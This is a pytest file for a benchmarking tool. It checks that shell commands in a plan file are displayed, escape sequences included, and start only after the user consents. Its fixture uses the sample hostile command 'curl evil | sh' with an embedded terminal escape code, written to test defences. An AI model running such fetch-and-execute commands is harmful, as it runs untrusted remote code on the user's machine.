"""Commands of a file: each is shown, and none starts before the user agrees."""

import io
import sys
from pathlib import Path

import pytest

from fake_core import FakeCore, put_in_place
from said import say
from tierscope.errors import Exit
from tierscope.record.experiment import Experiment, Group, Schedule, Target, Team, Workload
from tierscope.record.work import Work
from tierscope.record.work.job import JobWork
from tierscope.record.work.line import LineWork
from tierscope.record.work.task import TaskWork
from tierscope.run.commands import commands_of
from tierscope.run.runner import Runner

COMMAND = "curl evil | sh \x1b[2K[/x]"
SHOWN = r"curl evil | sh \u001b[2K[/x]"
ALLOW = "--allow-commands"
PLAN = """
[schedule]
budget = "200ms"
[[experiment]]
[[experiment.group]]
kernel = "command"
command = "curl evil | sh \\u001b[2K[/x]"
target = "null"
cpus = "0"
[[experiment]]
[[experiment.group]]
kernel = "command"
command = "./good"
target = "null"
cpus = "0"
"""


@pytest.fixture
def core(monkeypatch: pytest.MonkeyPatch) -> FakeCore:
    return put_in_place(FakeCore(), monkeypatch)


@pytest.fixture
def plan(tmp_path: Path, core: FakeCore) -> Path:
    del core
    (tmp_path / "plan.toml").write_text(PLAN)
    return tmp_path / "plan.toml"


class Terminal(io.StringIO):
    """Somebody sits there."""

    def isatty(self) -> bool:
        return True


def answer(monkeypatch: pytest.MonkeyPatch, words: str) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal(words))
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)


def started(core: FakeCore) -> bool:
    return any(line.startswith("prepare command") for line in core.log)


def measured(capfd: pytest.CaptureFixture[str], plan: Path, out: Path) -> None:
    assert say(capfd, "run", str(plan), "--out", str(out), "--quiet", ALLOW)[0] in (Exit.GOOD, Exit.INCONCLUSIVE)


def refuses(capfd: pytest.CaptureFixture[str], core: FakeCore, *words: str) -> None:
    """Both commands are shown, nothing starts, and the last line shows the next step."""
    core.log.clear()
    status, out, err = say(capfd, *words)
    assert status == Exit.USAGE
    assert out == ""
    lines = err.splitlines()
    assert lines[0].endswith("starts these 2 commands on this machine:")
    assert lines[1:3] == [f"  {SHOWN}", "  ./good"]
    assert lines[-1].endswith("may not start these 2 commands; read them, then give --allow-commands")
    assert not started(core)


def test_a_plan_starts_no_command_unasked(capfd: pytest.CaptureFixture[str], core: FakeCore, plan: Path) -> None:
    out = plan.parent / "run"
    refuses(capfd, core, "run", str(plan), "--out", str(out))
    assert not out.exists()
    status, _, err = say(capfd, "run", str(plan), "--out", str(out), "--quiet", ALLOW)
    assert status in (Exit.GOOD, Exit.INCONCLUSIVE)
    assert SHOWN in err
    assert started(core)


def test_a_run_of_others_is_repeated_only_when_asked(
    capfd: pytest.CaptureFixture[str], core: FakeCore, plan: Path
) -> None:
    run, again = plan.parent / "run", plan.parent / "again"
    measured(capfd, plan, run)
    refuses(capfd, core, "rerun", str(run), "--out", str(again))
    assert not again.exists()
    assert say(capfd, "rerun", str(run), "--out", str(again), "--quiet", ALLOW)[0] in (Exit.GOOD, Exit.INCONCLUSIVE)
    assert started(core)


def test_a_run_of_others_continues_only_when_asked(
    capfd: pytest.CaptureFixture[str], core: FakeCore, plan: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = plan.parent / "run"
    with monkeypatch.context() as patch:
        patch.setattr(Runner, "_run", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
        assert say(capfd, "run", str(plan), "--out", str(run), "--quiet", ALLOW)[0] == Exit.INTERRUPTED
    refuses(capfd, core, "resume", str(run))
    assert say(capfd, "resume", str(run), "--quiet", ALLOW)[0] in (Exit.GOOD, Exit.INCONCLUSIVE)
    assert started(core)
    core.log.clear()
    status, _, err = say(capfd, "resume", str(run), "--quiet")  # complete: nothing is left to start
    assert (status in (Exit.GOOD, Exit.INCONCLUSIVE), err, started(core)) == (True, "", False)


def test_two_runs_of_others_are_repeated_only_when_asked(
    capfd: pytest.CaptureFixture[str], core: FakeCore, plan: Path
) -> None:
    run, folder = plan.parent / "run", plan.parent / "turns"
    measured(capfd, plan, run)
    words = ("compare", str(run), str(run), "--rerun", "3", "--out", str(folder))
    refuses(capfd, core, *words)
    status, _, err = say(capfd, *words, ALLOW)
    assert status in (Exit.GOOD, Exit.FAILED, Exit.INCONCLUSIVE)
    assert err.count(SHOWN) == 2  # once for each side, not in each round
    assert started(core)


@pytest.mark.parametrize(
    ("words", "goes"), [("y\n", True), ("Yes\n", True), ("n\n", False), ("\n", False), ("", False)]
)
def test_on_a_terminal_the_user_is_asked(
    capfd: pytest.CaptureFixture[str],
    core: FakeCore,
    plan: Path,
    monkeypatch: pytest.MonkeyPatch,
    words: str,
    goes: bool,
) -> None:
    answer(monkeypatch, words)
    status, _, err = say(capfd, "run", str(plan), "--out", str(plan.parent / "run"), "--quiet")
    assert "Start these 2 commands? [y/N] " in err
    assert (status != Exit.USAGE) == goes == started(core)


def test_a_dry_run_shows_the_commands(capfd: pytest.CaptureFixture[str], core: FakeCore, plan: Path) -> None:
    status, out, err = say(capfd, "run", str(plan), "--dry-run")
    assert (status, err) == (Exit.GOOD, "")
    assert f"starts {SHOWN}\nstarts ./good\n" in out
    assert not started(core)


@pytest.mark.parametrize("word", ["victim=cmd ./solve [/x] [bold]", "victim=cmd :smile:"])
def test_a_command_that_was_typed_needs_no_question(
    capfd: pytest.CaptureFixture[str], core: FakeCore, tmp_path: Path, word: str
) -> None:
    status, out, _ = say(capfd, "run", "neighbors", word, "--dry-run")
    assert status == Exit.GOOD
    assert f"starts {word.removeprefix('victim=cmd ')}\n" in out
    words = ("aggressors=0", "budget=200ms", "--out", str(tmp_path / "run"), "--quiet")
    status, _, err = say(capfd, "run", "neighbors", word, *words)
    assert (status in (Exit.GOOD, Exit.INCONCLUSIVE), err) == (True, "")
    assert started(core)


def test_permission_without_a_use_is_an_error(capfd: pytest.CaptureFixture[str], core: FakeCore, plan: Path) -> None:
    run = plan.parent / "run"
    measured(capfd, plan, run)
    status, _, err = say(capfd, "compare", str(run), str(run), ALLOW)
    assert status == Exit.USAGE
    assert "--allow-commands is for --rerun" in err


def test_a_device_that_loses_its_content_is_agreed_to_and_a_job_in_a_folder_is_not_a_command() -> None:
    def asked(target: str, kernel: str = "read", work: Work | None = None) -> list[str]:
        workload = Workload(kernel=kernel, footprint_bytes=4096, work=work or LineWork())
        group = Group(workload=workload, target=Target.parse(target), team=Team(cpus=(0,)))
        return commands_of([Experiment(table="groups", groups=(group,), schedule=Schedule())])

    job = JobWork(block_bytes=4096, order="sequential", arguments="rw=read")
    assert asked("devdax:/dev/dax0.0:overwrite") == ["overwrite devdax:/dev/dax0.0:overwrite"]
    assert asked("devdax:/dev/dax0.0") == []
    assert asked("storage:/tmp", "fio", job) == []
    assert asked("blockdev:/dev/sdz", "fio", job) == ["rw=read"]
    assert asked("null", "command", TaskWork(command="rw=read")) == ["rw=read"]
